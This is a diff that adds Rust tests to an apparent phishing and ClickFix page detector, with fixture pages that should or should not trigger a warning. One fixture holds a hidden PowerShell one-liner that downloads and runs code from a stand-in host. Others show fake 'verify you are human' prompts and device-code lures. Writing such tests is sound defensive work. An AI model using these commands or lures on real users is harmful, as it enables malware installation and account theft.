@@ -3473,3 +3473,209 @@ fn a_short_page_claiming_a_provider_that_says_to_paste_a_command_is_an_ask() {
         ),
     ]);
 }
+
+#[test]
+fn a_help_page_that_shows_the_command_to_paste_is_no_clickfix() {
+    check(vec![
+        case(
+            "an IT help page: Outlook failed, Win+R, the command shown",
+            page("https://support.bittern-it.example/help/outlook-cannot-connect")
+                .title("Outlook cannot connect to the server – Bittern IT Support")
+                .heading("Outlook cannot connect to the server")
+                .text(
+                    "Outlook cannot connect to the server\nClose Outlook.\nPress Win+R to open Run.\nType or paste \
+                     the command below and press Enter.\nCopy\noutlook.exe /safe\nTo test the network, paste this \
+                     in PowerShell:\nCopy\nTest-NetConnection outlook.office365.com -Port 443",
+                ),
+            Level::None,
+            &[],
+            &["origin.untrusted-host"],
+        ),
+        case(
+            "a tech-desk page naming Google Drive, Terminal and a shown killall",
+            page("https://techdesk.brookfield.example/mac/google-drive-wont-open")
+                .title("Google Drive for desktop won't open | Campus Tech Desk")
+                .banner("Mac › Google Drive")
+                .heading("Google Drive for desktop won't open")
+                .text(
+                    "Google Drive for desktop won't open\nQuit Drive from the menu bar. If it is stuck, open \
+                     Terminal and paste:\nCopy\nkillall \"Google Drive\"; open -a \"Google Drive\"",
+                ),
+            Level::None,
+            &[],
+            &["origin.untrusted-host"],
+        ),
+        // Look-alikes that still warn: the lure shows no command, only a path or a button's words;
+        // or it claims the provider, whatever command it shows.
+        case(
+            "a Microsoft card that shows the PowerShell it copied",
+            page("https://access-check-portal.example/")
+                .title("Verify you are human")
+                .banner("Microsoft")
+                .heading("Verify you are human")
+                .text(
+                    "Microsoft\nVerify you are human\nPress Win+R, paste with Ctrl+V and press Enter:\npowershell -w \
+                     hidden -c \"iex (iwr https://cdn-verify-edge.example/c).Content\"",
+                ),
+            Level::Danger,
+            &["origin.untrusted-host"],
+            &[],
+        ),
+        case(
+            "a card with the provider's logo that shows a harmless command and copies another",
+            page("https://teams-meet-join.example/l/meetup-join/")
+                .title("Teams")
+                .logo("Microsoft Teams")
+                .heading("Teams could not start your camera")
+                .text(
+                    "Teams could not start your camera\nPress Win+R, paste with Ctrl+V and press Enter:\nipconfig \
+                     /flushdns\nFix it",
+                ),
+            Level::Danger,
+            &["origin.untrusted-host"],
+            &[],
+        ),
+        case(
+            "a Teams card with the steps and no command shown",
+            page("https://teams-meet-join.example/l/meetup-join/")
+                .title("Microsoft Teams")
+                .banner("Microsoft Teams")
+                .heading("Teams could not start your camera")
+                .text("Microsoft Teams\nTeams could not start your camera\nClick Fix it, then:\nPress Win+R\nPress Ctrl+V\nPress Enter\nFix it"),
+            Level::Danger,
+            &["origin.untrusted-host"],
+            &[],
+        ),
+        case(
+            "a FileFix card showing only a file path",
+            page("https://sp-filedrive.example/sites/hr")
+                .title("SharePoint")
+                .banner("Microsoft")
+                .heading("This file is on a shared drive")
+                .text(
+                    "Microsoft\nThis file is on a shared drive\nOpen File Explorer and select the address bar\n\
+                     Paste the path and press Enter\nC:\\company\\internal-secure\\filedrive\\HRPolicy.docx\nCopy",
+                ),
+            Level::Danger,
+            &["origin.untrusted-host"],
+            &[],
+        ),
+    ]);
+}
+
+#[test]
+fn transcripts_in_powershell_and_fish_are_quoted_output() {
+    check(vec![
+        case(
+            "Connect-MgGraph at a PS> prompt",
+            page("https://docs.tenanttidy.example/connect").title("Connecting to your tenant").text(
+                "Connecting to your tenant\nPS> Connect-MgGraph -Scopes \"User.Read.All\" -UseDeviceCode\nTo \
+                     sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the \
+                     code D4RTSX2QE to authenticate.",
+            ),
+            Level::None,
+            &[],
+            &["lure.device-code"],
+        ),
+        case(
+            "a fish prompt",
+            page("https://vaultctl.example/docs/login").title("vaultctl login").text(
+                "vaultctl login\n~> vaultctl login --provider github\n! First copy your one-time code: \
+                     33AF-0C1E\nThen open: https://github.com/login/device",
+            ),
+            Level::None,
+            &[],
+            &["lure.device-code"],
+        ),
+        // Look-alikes: a prompt sign before words that are no command.
+        case(
+            "a capitalised word after PS> that is no cmdlet",
+            page("https://skyforge-signin.example/join")
+                .title("Join")
+                .text("PS> Action required now\nOpen https://microsoft.com/devicelogin and enter the code FQ8K2XTLM."),
+            Level::Danger,
+            &["lure.device-code"],
+            &[],
+        ),
+        case(
+            "an address ending in > is no prompt",
+            page("https://skyforge-signin.example/join").title("Join").text(
+                "https://x.example/a> go now\nOpen https://microsoft.com/devicelogin and enter the code FQ8K2XTLM.",
+            ),
+            Level::Danger,
+            &["lure.device-code"],
+            &[],
+        ),
+    ]);
+}
+
+#[test]
+fn an_ad_frame_naming_a_provider_claims_nothing_for_the_sites_own_login() {
+    let engine = Engine::new(Policy::default());
+    let judge = |p: &Page| engine.evaluate(&p.snap, &p.ctx);
+    let login = page("https://cloud.quill-editor.example/login")
+        .title("Sign in – Quill Cloud")
+        .heading("Sign in to Quill Cloud")
+        .form("https://cloud.quill-editor.example/session", "")
+        .email()
+        .password("Password")
+        .frame("about:srcdoc", 200.0, 28.0, 1.0, true);
+    let ad = page("https://ads.example.net/a")
+        .title("Ad")
+        .logo("Google")
+        .heading("Google Workspace")
+        .text("Google Workspace\nProfessional email with your domain. Get started")
+        .framed_by(&["https://cloud.quill-editor.example"]);
+    let (top, frame) = (judge(&login), judge(&ad));
+    assert_eq!(top.level, Level::None, "{top:#?}");
+    assert!(frame.facts.claims.iter().any(|c| c == "google"), "{:?}", frame.facts);
+    assert_eq!(combine(&[top, frame.clone()]).level, Level::None);
+    // Look-alike: bare fields in the top document under a frame that claims stay a split imitation.
+    let bare_top = judge(
+        &page("https://docs-share.example/f")
+            .title(".")
+            .form("https://docs-share.example/f", "")
+            .email()
+            .password("Enter your password")
+            .buttons(&["Next"]),
+    );
+    assert!(bare_top.facts.bare, "{:?}", bare_top.facts);
+    let tab = combine(&[bare_top, frame]);
+    assert_eq!(tab.level, Level::Danger, "{tab:#?}");
+    assert_eq!(tab.findings[0].rule.as_str(), "frames.claim-and-ask");
+}
+
+#[test]
+fn a_site_name_in_its_own_script_first_in_the_title() {
+    let product = |title: &str, home: &str| {
+        page("https://www.calendar-renkei.example/")
+            .title(title)
+            .banner(&format!("{home} 機能 料金 導入事例 ログイン"))
+            .banner_in(home, home)
+            .heading("Microsoft 365・Google Workspace と予定を自動同期")
+            .heading("GitHub")
+            .card("ログイン\nMicrosoftでサインイン\nGoogleでログイン")
+            .heading("管理者ログイン")
+            .form("https://www.calendar-renkei.example/login", "メールアドレス パスワード")
+            .email()
+            .password("パスワード")
+            .buttons(&["ログイン", "Microsoftでサインイン", "Googleでログイン"])
+    };
+    check(vec![
+        case(
+            "a Japanese product named first in its title and in its home link",
+            product("カレンダ連携Pro｜Microsoft 365・Google Workspace 予定同期", "カレンダ連携Pro"),
+            Level::None,
+            &[],
+            &["origin.untrusted-host"],
+        ),
+        // Look-alike: the home link shows another name; the title's first part is no site name.
+        case(
+            "the title's first part not in the header",
+            product("カレンダ連携Pro｜Microsoft 365・Google Workspace 予定同期", "サインイン"),
+            Level::Danger,
+            &["origin.untrusted-host"],
+            &[],
+        ),
+    ]);
+}
